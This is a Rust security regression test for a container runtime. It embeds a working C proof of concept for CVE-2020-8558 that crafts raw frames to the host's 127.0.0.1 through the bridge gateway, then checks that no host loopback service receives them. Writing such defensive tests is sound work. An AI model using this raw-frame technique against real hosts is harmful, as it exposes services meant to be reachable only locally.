//! A container must not reach the host's loopback services (CVE-2020-8558). With the default
//! CAP_NET_RAW, a container can hand the bridge an Ethernet frame addressed to 127.0.0.1; the
//! bridge has route_localnet (so that ports published on 127.0.0.1 work), and without a rule
//! the kernel delivers it to whatever listens on the host's loopback. The test listens on the
//! host's 127.0.0.1 and checks that nothing arrives.

use super::common::Env;
use std::net::UdpSocket;
use std::time::Duration;

const PROBE: &str = r##"
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned short csum(const void *data, int len) {
    const unsigned short *p = data;
    unsigned long sum = 0;
    for (; len > 1; len -= 2) sum += *p++;
    if (len) sum += *(const unsigned char *)p;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

/* probe GATEWAY_MAC PORT: UDP datagrams for 127.0.0.1:PORT, sent out of eth0 to the gateway. */
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    unsigned char gw[6];
    if (sscanf(argv[1], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &gw[0], &gw[1], &gw[2], &gw[3], &gw[4], &gw[5]) != 6) return 2;
    int port = atoi(argv[2]);
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    int d = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0 || d < 0) { printf("socket: %s\n", strerror(errno)); return 1; }
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strcpy(ifr.ifr_name, "eth0");
    if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) { printf("ifindex: %s\n", strerror(errno)); return 1; }
    int index = ifr.ifr_ifindex;
    if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) { printf("hwaddr: %s\n", strerror(errno)); return 1; }
    unsigned char mac[6];
    memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
    if (ioctl(d, SIOCGIFADDR, &ifr) < 0) { printf("addr: %s\n", strerror(errno)); return 1; }
    struct in_addr src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
    unsigned char frame[128];
    memset(frame, 0, sizeof frame);
    struct ether_header *eh = (void *)frame;
    memcpy(eh->ether_dhost, gw, 6);
    memcpy(eh->ether_shost, mac, 6);
    eh->ether_type = htons(ETHERTYPE_IP);
    const char payload[] = "doca-attack: from a container";
    struct iphdr *ip = (void *)(frame + sizeof *eh);
    struct udphdr *udp = (void *)((char *)ip + sizeof *ip);
    int udplen = sizeof *udp + sizeof payload;
    ip->version = 4; ip->ihl = 5; ip->ttl = 64; ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons(sizeof *ip + udplen);
    ip->saddr = src.s_addr;
    ip->daddr = htonl(INADDR_LOOPBACK);
    ip->check = csum(ip, sizeof *ip);
    udp->source = htons(40000); udp->dest = htons(port); udp->len = htons(udplen); udp->check = 0;
    memcpy((char *)udp + sizeof *udp, payload, sizeof payload);
    struct sockaddr_ll to;
    memset(&to, 0, sizeof to);
    to.sll_family = AF_PACKET; to.sll_ifindex = index; to.sll_halen = 6;
    memcpy(to.sll_addr, gw, 6);
    int sent = 0;
    for (int i = 0; i < 10; i++) {
        if (sendto(s, frame, sizeof *eh + sizeof *ip + udplen, 0, (struct sockaddr *)&to, sizeof to) > 0) sent++;
        usleep(20000);
    }
    printf("sent %d frames for 127.0.0.1:%d\n", sent, port);
    return 0;
}
"##;

#[test]
fn a_container_cannot_reach_the_hosts_loopback() {
    doca_testkit::require_root!();
    let e = Env::new();
    let listener = UdpSocket::bind("127.0.0.1:0").unwrap();
    listener.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
    let port = listener.local_addr().unwrap().port();
    let tools = e.tools(&[("probe", &doca_testkit::c_program("probe", PROBE))]);
    let bind = format!("{}:/attack:ro", tools.display());
    // Publishing on 127.0.0.1 is what turns route_localnet on; the probe's own container has it.
    let script = format!(
        "gw=$(ip route | awk '/default/ {{print $3}}'); ping -c 1 -W 1 $gw > /dev/null; \
         mac=$(awk -v g=$gw '$1 == g {{print $4}}' /proc/net/arp); /attack/probe $mac {port}"
    );
    let out = e.run_ok(&["--rm", "-p", "127.0.0.1::80", "-v", &bind, "busybox", "sh", "-c", &script]);
    assert!(out.contains("sent 10 frames"), "the probe did not send its frames: {out}");
    let mut buf = [0u8; 256];
    let got = listener.recv_from(&mut buf).ok().map(|(n, from)| format!("{from}: {}", String::from_utf8_lossy(&buf[..n])));
    assert_eq!(got, None, "a host service on 127.0.0.1 received a container's packet");
}
